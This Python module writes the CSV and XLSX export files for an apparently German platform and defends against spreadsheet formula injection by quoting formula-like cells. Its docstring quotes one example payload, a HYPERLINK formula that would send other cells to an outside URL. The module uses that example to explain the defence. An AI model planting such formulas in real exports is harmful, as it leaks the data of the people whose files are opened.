"""The one writer of CSV and XLSX files: every table the platform offers for download goes through it.

Text in a cell is made safe here, once, whoever typed it:

- Spreadsheet programs run a cell that starts with "=", "+", "-", "@", a tab or a carriage return
  as a formula (CSV or formula injection): ``=HYPERLINK("http://…?x="&A1)`` in an anonymous
  answer would send other cells away when the file is opened. Such text gets a leading "'"
  (OWASP's advice), which spreadsheet programs show as text; ``original_text`` takes it off again
  for an import. Text that already starts with "'" before such a character gets one more, so
  taking one off always gives back what was written.
- XLSX is XML: characters XML cannot carry are removed (``xml_text``), and a vertical tab (Word's
  soft line break) becomes a line break. CSV cells are cleaned the same way, so both formats of
  an export show the same text.

In XLSX, text is always stored as a string cell (never a formula or an error value such as
"#N/A"), while numbers, dates and booleans stay typed values. CSV files are UTF-8 with a byte order
mark and ";" between cells, which German Excel opens with umlauts and columns intact; ``csv_lines``
yields them line by line, so a response can stream any number of rows.
"""

from __future__ import annotations

import csv
import datetime
import io
import math
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell as XlsxCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from smartregion.core.xml_text import xml_text

# A leading "'" does not disarm a formula behind it, so it counts as part of the start.
FORMULA_START = re.compile(r"\A'*[=+\-@\t\r]")
BYTE_ORDER_MARK = "\ufeff"  # Excel reads a CSV file as UTF-8 only with it

Value = int | float | Decimal | datetime.date  # bool is an int, datetime a date
Cell = Value | str | None  # anything else (a lazy translation, say) is written as its text

_BOLD = Font(bold=True)
_TOP = Alignment(vertical="top")
_WRAPPED = Alignment(wrap_text=True, vertical="top")


def spreadsheet_text(text: str) -> str:
    """``text`` as a spreadsheet cell shows it and never runs it: XML-clean, quoted if formula-like."""
    text = xml_text(text)
    return f"'{text}" if FORMULA_START.match(text) else text


def original_text(cell: str) -> str:
    """The text behind a cell written by ``spreadsheet_text``: without the quote it added."""
    return cell[1:] if cell.startswith("'") and FORMULA_START.match(cell) else cell


def _is_value(cell: object) -> bool:
    if isinstance(cell, float) and not math.isfinite(cell):
        return False  # Excel has no NaN or infinity; written as text
    return isinstance(cell, int | float | Decimal | datetime.date)


def _local(moment: datetime.datetime) -> datetime.datetime:
    """A time as it is shown in the region (Excel has no time zones)."""
    return timezone.localtime(moment).replace(tzinfo=None) if timezone.is_aware(moment) else moment


# CSV -------------------------------------------------------------------------------------


def plain_value(value: Value) -> str:
    """A number, date or boolean in a CSV cell, as a program reads it back."""
    if isinstance(value, bool):
        return "WAHR" if value else "FALSCH"  # what German Excel reads as a boolean
    if isinstance(value, datetime.datetime):
        return _local(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    return str(value)


class _Echo:
    """A file for csv.writer that hands back each line instead of keeping it."""

    def write(self, line: str) -> str:
        return line


def csv_lines(
    rows: Iterable[Sequence[Cell]], *, value_text: Callable[[Value], str] = plain_value
) -> Iterator[str]:
    """The byte order mark, then one line per row (";" between cells), read from ``rows`` as needed.

    Text cells pass ``spreadsheet_text``; numbers, dates and booleans are worded by ``value_text``
    (e.g. German notation) and left as they are: they cannot start a formula.
    """
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
    yield BYTE_ORDER_MARK
    for row in rows:
        yield writer.writerow([_csv_cell(cell, value_text) for cell in row])


def csv_bytes(rows: Iterable[Sequence[Cell]], *, value_text: Callable[[Value], str] = plain_value) -> bytes:
    """A whole CSV file (UTF-8 with byte order mark) for a small table; see ``csv_lines``."""
    return "".join(csv_lines(rows, value_text=value_text)).encode("utf-8")


def _csv_cell(cell: object, value_text: Callable[[Value], str]) -> str:
    if cell is None:
        return ""
    if _is_value(cell):
        return value_text(cell)  # type: ignore[arg-type]
    return spreadsheet_text(str(cell))


# XLSX ------------------------------------------------------------------------------------


class XlsxSheet:
    """One sheet of an ``XlsxWriter``; rows are written as they are appended."""

    def __init__(self, sheet: Any, *, wrap: bool) -> None:
        self._sheet = sheet
        self._wrap = wrap

    def append(self, row: Sequence[Cell], *, bold: bool = False) -> None:
        self._sheet.append([self._cell(value, bold) for value in row])

    def extend(self, rows: Iterable[Sequence[Cell]]) -> None:
        for row in rows:
            self.append(row)

    def _cell(self, value: object, bold: bool) -> XlsxCell | None:
        if value is None:
            return None
        cell = WriteOnlyCell(self._sheet)
        if not _is_value(value):
            cell.value = spreadsheet_text(str(value))
            cell.data_type = "s"  # a string, even where openpyxl would guess an error value
        elif isinstance(value, datetime.datetime):
            cell.value = _local(value)
            cell.number_format = "DD.MM.YYYY HH:MM"
        elif isinstance(value, datetime.date):
            cell.value = value
            cell.number_format = "DD.MM.YYYY"
        else:
            cell.value = value
            if isinstance(value, Decimal):
                cell.number_format = "#,##0.00"  # amounts of money, the only decimals we keep
        if bold:
            cell.font = _BOLD
        if self._wrap:
            cell.alignment = _WRAPPED if cell.data_type == "s" else _TOP
        return cell


class XlsxWriter:
    """A workbook written row by row (openpyxl's write-only mode, so memory stays flat).

    ``sheet`` adds a sheet with a bold header row that stays in view; the sheets appear in the
    order they were added and may be filled in any order.
    """

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)

    def sheet(
        self,
        title: str,
        *,
        header: Sequence[Cell] = (),
        widths: Sequence[float] = (),
        wrap: bool = False,
    ) -> XlsxSheet:
        """A new sheet; ``widths`` of the first columns in characters, ``wrap`` breaks long text."""
        worksheet = self._book.create_sheet(title)
        for number, width in enumerate(widths, start=1):
            worksheet.column_dimensions[get_column_letter(number)].width = width
        sheet = XlsxSheet(worksheet, wrap=wrap)
        if header:
            worksheet.freeze_panes = "A2"
            sheet.append(header, bold=True)
        return sheet

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()
